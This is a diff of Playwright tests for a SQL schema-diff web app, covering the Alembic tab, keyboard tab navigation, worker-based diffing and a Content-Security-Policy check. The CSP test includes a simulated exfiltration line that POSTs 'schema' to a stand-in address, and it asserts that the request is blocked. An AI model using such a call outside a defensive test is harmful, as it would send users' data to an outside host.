@@ -108,10 +108,17 @@ test("pasting two schemas shows the Up, Down and Changes output", async () => {
   assert.match(await destructive.textContent(), /destructive/);
   await screenshot(s.page, "03-changes-destructive");
 
-  // The Alembic tab waits for the core: disabled, "coming soon".
-  const alembic = s.page.locator("#tab-alembic");
-  assert.equal(await alembic.isDisabled(), true);
-  assert.match(await alembic.textContent(), /coming soon/);
+  // The Alembic tab: message and down-revision fields, the file name `<rev>_<slug>.py`; the
+  // file itself waits for the core's Alembic renderer (issue 4) and says so.
+  await selectTab(s.page, "alembic");
+  await s.page.fill("#alembic-message", "Add name to t");
+  await s.page.fill("#alembic-down-revision", "0123456789ab");
+  assert.match(await s.page.textContent("#alembic-filename"), /^[0-9a-f]{12}_add_name_to_t\.py$/);
+  await s.page.fill("#alembic-revision", "ae1027a6acf");
+  assert.equal(await s.page.textContent("#alembic-filename"), "ae1027a6acf_add_name_to_t.py");
+  assert.match(await s.page.textContent("#alembic-placeholder"), /Alembic output arrives with issue 4/);
+  assert.equal(await s.page.isDisabled("#download"), true, "nothing to download yet");
+  await screenshot(s.page, "03b-alembic-tab");
   assertClean(s);
   await s.context.close();
 });
@@ -295,8 +302,12 @@ test("keyboard: tabs move with the arrow keys, everything is reachable", async (
   assert.equal(await s.page.evaluate(() => document.activeElement.id), "tab-down");
   await s.page.keyboard.press("ArrowRight");
   assert.equal(await s.page.getAttribute("#tab-changes", "aria-selected"), "true");
-  await s.page.keyboard.press("ArrowRight"); // wraps, skipping the disabled Alembic tab
-  assert.equal(await s.page.getAttribute("#tab-up", "aria-selected"), "true");
+  await s.page.keyboard.press("ArrowRight"); // wraps to the first tab
+  assert.equal(await s.page.getAttribute("#tab-alembic", "aria-selected"), "true");
+  await s.page.keyboard.press("End");
+  assert.equal(await s.page.getAttribute("#tab-changes", "aria-selected"), "true");
+  await s.page.keyboard.press("Home");
+  assert.equal(await s.page.getAttribute("#tab-alembic", "aria-selected"), "true");
   // Tab from the first editor reaches the second (no focus trap in the textareas).
   await s.page.focus("#editor-current");
   await s.page.keyboard.press("Tab");
@@ -322,19 +333,38 @@ test("the layout fits a phone and a 1280 px screen without sideways scrolling", 
   }
 });
 
-test("typing in a big schema stays responsive", async () => {
+test("the diff runs in a worker: typing stays responsive while a big diff runs", async () => {
   const s = await openPage(browser, server.url);
   await gotoApp(s.page, server.url);
-  const table = (i) => `CREATE TABLE t${i} (\n  id integer PRIMARY KEY,\n  name text NOT NULL,\n  created_at timestamptz DEFAULT now()\n);\n`;
-  const big = Array.from({ length: 5000 }, (_, i) => table(i)).join("");
+  // ~1.6 MB a side: the diff takes seconds, far longer than any frame may.
+  const table = (i) =>
+    `CREATE TABLE t${i} (\n  id integer PRIMARY KEY,\n  name text NOT NULL,\n  note varchar(200),\n  created_at timestamptz DEFAULT now()\n);\nCREATE INDEX t${i}_name ON t${i} (name);\n`;
+  const big = Array.from({ length: 12000 }, (_, i) => table(i)).join("");
   await setPair(s.page, big, big + "CREATE TABLE extra (id int);\n");
   assert.match(await s.page.inputValue("#output-up"), /CREATE TABLE extra/);
-  // Real keystrokes at the end of a 5000-table schema, each measured from the input event to
-  // the next frame (the debounced diff is not part of it).
+
+  // Edit; once the debounce is over the diff of the edited text runs in the worker. From then
+  // on every frame is watched while we keep typing; each keystroke is timed from its input
+  // event to the next frame.
+  const seq = await diffSeq(s.page);
   await s.page.focus("#editor-desired");
   await s.page.keyboard.press("Control+End");
-  let ms = 0;
-  for (const key of ["a", "b", "c"]) {
+  await s.page.keyboard.type("CREATE TABLE x (");
+  await s.page.waitForTimeout(350);
+  await s.page.evaluate(() => {
+    window.__gaps = [];
+    let last = performance.now();
+    const loop = () => {
+      const now = performance.now();
+      window.__gaps.push(now - last);
+      last = now;
+      if (!window.__stopFrames) requestAnimationFrame(loop);
+    };
+    requestAnimationFrame(loop);
+  });
+  const keys = [];
+  let sawPending = false;
+  for (const key of ["a", " ", "i", "n", "t", ")", ";"]) {
     await s.page.evaluate(() => {
       window.__keystroke = null;
       document.getElementById("editor-desired").addEventListener(
@@ -343,14 +373,71 @@ test("typing in a big schema stays responsive", async () => {
         { once: true },
       );
     });
+    sawPending ||= (await s.page.getAttribute("#status", "data-state")) === "pending";
     await s.page.keyboard.press(key);
     await s.page.waitForFunction(() => window.__keystroke !== null);
-    ms = Math.max(ms, await s.page.evaluate(() => window.__keystroke));
+    keys.push(await s.page.evaluate(() => window.__keystroke));
   }
-  assert.match(await s.page.inputValue("#editor-desired"), /abc$/);
+  await waitDiff(s.page, seq, 120000);
+  const gaps = await s.page.evaluate(() => {
+    window.__stopFrames = true;
+    return window.__gaps;
+  });
+  const diffMs = Number(await s.page.getAttribute("#status", "data-diff-ms"));
+  assert.match(await s.page.inputValue("#editor-desired"), /CREATE TABLE x \(a int\);$/);
+  assert.match(await s.page.inputValue("#output-up"), /CREATE TABLE x/);
+  const figures = {
+    bytes_per_side: big.length,
+    diff_round_trip_ms: diffMs,
+    keystroke_ms: keys,
+    longest_frame_gap_ms: Math.max(...gaps),
+    frames: gaps.length,
+    saw_pending_while_typing: sawPending,
+  };
   await mkdir(ARTIFACTS, { recursive: true });
-  await writeFile(path.join(ARTIFACTS, "keystroke-big-schema.json"), JSON.stringify({ bytes: big.length, keystroke_ms: ms }, null, 2));
-  assert.ok(ms < 250, `a keystroke took ${ms} ms`);
+  await writeFile(path.join(ARTIFACTS, "typing-during-diff.json"), JSON.stringify(figures, null, 2) + "\n");
+  await screenshot(s.page, "10-big-schema");
+  assert.ok(sawPending, "the keystrokes were typed while a diff was pending");
+  assert.ok(Math.max(...keys) < 250, `a keystroke took ${Math.max(...keys)} ms: ${JSON.stringify(figures)}`);
+  // The proof that the diff is off the main thread: it took far longer than any frame gap.
+  // (On the main thread, the longest gap would be at least the diff time.)
+  assert.ok(figures.longest_frame_gap_ms < 0.75 * diffMs, JSON.stringify(figures));
   assertClean(s);
+  await s.context.close();
+});
+
+test("the Content-Security-Policy blocks any connection outside the page's origin", async () => {
+  const s = await openPage(browser, server.url);
+  await gotoApp(s.page, server.url);
+  // The diff worker is running, from the page's origin.
+  const workers = s.page.workers();
+  assert.equal(workers.length, 1, "one diff worker");
+  assert.ok(workers[0].url().startsWith(server.url + "worker.js?"), workers[0].url());
+  const attempt = (where) =>
+    where.evaluate(async () => {
+      const violations = [];
+      self.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
+      let outcome;
+      try {
+        await fetch("http://192.0.2.1:9/leak", { method: "POST", body: "schema" });
+        outcome = "sent";
+      } catch (e) {
+        outcome = "blocked";
+      }
+      await new Promise((r) => setTimeout(r, 50));
+      return { outcome, violations };
+    });
+  for (const [name, where] of [["page", s.page], ["worker", workers[0]]]) {
+    const r = await attempt(where);
+    assert.equal(r.outcome, "blocked", name);
+    assert.ok(r.violations.length > 0 && r.violations.every((d) => d === "connect-src"), `${name}: ${JSON.stringify(r)}`);
+  }
+  // Every request the page and its worker made stayed on the origin (the blocked ones never
+  // reached the network, so they are not requests).
+  const foreign = s.requests().filter((u) => !(u.startsWith(server.url) || u.startsWith("blob:") || u.startsWith("data:")));
+  assert.deepEqual(foreign, []);
+  assert.ok(s.requests().some((u) => u.includes("worker.js")), "the worker's own requests are watched too");
+  // Only the two refusals were logged.
+  assert.ok(s.problems().every((p) => /Content Security Policy|Refused to connect|Failed to fetch/.test(p)), s.problems().join("\n"));
   await s.context.close();
 });
